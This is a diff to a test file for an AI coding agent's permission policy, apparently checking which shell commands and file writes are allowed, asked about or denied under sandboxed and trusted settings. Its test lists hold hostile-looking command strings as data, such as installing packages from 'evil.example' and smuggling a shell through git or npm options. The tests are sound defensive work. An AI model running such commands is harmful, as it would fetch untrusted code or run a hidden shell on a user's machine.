@@ -55,10 +55,16 @@ test("reading and searching is allowed", async () => {
     expect(await decisions(tool, ["src/a.ts"])).toEqual({ "src/a.ts": "allow" });
 });
 
-test("the checks of the project run without asking in a sandbox, and ask without one", async () => {
+test("the checks of the project run without asking in a sandbox or in a trusted project, and ask elsewhere", async () => {
   const commands = [
     "npm test",
     "npm run lint",
+    "npm run dev",
+    "npm run -s test",
+    "npm start",
+    "uv run pytest",
+    "bundle exec rspec",
+    "./gradlew test",
     "pnpm test",
     "yarn run build",
     "npx vitest run src/a.test.ts",
@@ -70,10 +76,37 @@ test("the checks of the project run without asking in a sandbox, and ask without
     "make test",
   ];
   expect(await decisions("bash", commands, ", sandboxed: true")).toEqual(all(commands, "allow"));
+  expect(await decisions("bash", commands, ", trusted: true")).toEqual(all(commands, "allow"));
   expect(await decisions("bash", commands)).toEqual(all(commands, "ask"));
 });
 
-test("commands that write, run code, reach the network or cannot be undone ask, with or without a sandbox", async () => {
+test("packages of the registry are installed in a sandbox, as long as nothing private was seen", async () => {
+  const commands = [
+    "npm install",
+    "npm ci",
+    "npm install -D zod",
+    "npm i @types/node@22",
+    "pnpm add zod",
+    "yarn install",
+  ];
+  expect(await decisions("bash", commands, ", sandboxed: true")).toEqual(all(commands, "allow"));
+  expect(await decisions("bash", commands, ", sandboxed: true, private: true")).toEqual(all(commands, "ask"));
+  expect(await decisions("bash", commands, ", trusted: true")).toEqual(all(commands, "ask"));
+});
+
+test("branches of the project's own remote are followed in a trusted project", async () => {
+  const commands = [
+    "git fetch",
+    "git fetch origin",
+    "git switch main",
+    "git checkout main",
+    "git checkout -",
+  ];
+  expect(await decisions("bash", commands, ", trusted: true")).toEqual(all(commands, "allow"));
+  expect(await decisions("bash", commands, ", sandboxed: true")).toEqual(all(commands, "ask"));
+});
+
+test("commands that write, run code, reach the network or cannot be undone ask, with or without a sandbox, trusted or not", async () => {
   const commands = [
     "git branch -D main",
     "git branch new",
@@ -91,7 +124,8 @@ test("commands that write, run code, reach the network or cannot be undone ask, 
     "npm run -s deploy",
     "tsc @args",
     "git push",
-    "git checkout main",
+    "git checkout src",
+    "git fetch origin pull/1/head",
     "git -c core.pager=sh log",
     "git diff --output=x",
     "git log --ext-diff",
@@ -107,10 +141,22 @@ test("commands that write, run code, reach the network or cannot be undone ask, 
     "date -s 12:00",
     "rm a",
     "mv a b",
-    "npm install",
+    "npm install https://evil.example/x.tgz",
+    "npm install user/repo",
+    "npm install -g zod",
+    "npm install --registry https://evil.example zod",
     "npm publish",
     "npm run deploy",
+    "npm run deploy -- --now",
+    "npm run --silent release",
+    "npm run db:reset",
     "npm test --script-shell=sh",
+    "npm test --prefix ../other",
+    "pytest /elsewhere/test_a.py",
+    "npx eslint ../other",
+    "make install",
+    "bun run scripts/a.ts",
+    "yarn run rimraf src",
     "make test deploy",
     "gradle test publish",
     "prettier --write .",
@@ -122,11 +168,14 @@ test("commands that write, run code, reach the network or cannot be undone ask, 
   ];
   expect(await decisions("bash", commands)).toEqual(all(commands, "ask"));
   expect(await decisions("bash", commands, ", sandboxed: true")).toEqual(all(commands, "ask"));
-  expect(await decisions("write", ["src/a.ts", "README.md", "policy.yaml"])).toEqual({
-    "src/a.ts": "allow",
-    "README.md": "ask",
-    "policy.yaml": "ask",
-  });
+  expect(await decisions("bash", commands, ", trusted: true")).toEqual(all(commands, "ask"));
+});
+
+test("files of the workspace are written without asking, except for those that decide what runs", async () => {
+  const free = ["src/a.ts", "README.md", "app/page.tsx", "tsconfig.json"];
+  expect(await decisions("write", free)).toEqual(all(free, "allow"));
+  const asked = ["policy.yaml", "package.json", "packages/a/package.json", "Makefile", "x.lock", "CLAUDE.md"];
+  expect(await decisions("write", asked)).toEqual(all(asked, "ask"));
 });
 
 test("forced pushes, keys, credentials, policy files and system files are denied", async () => {
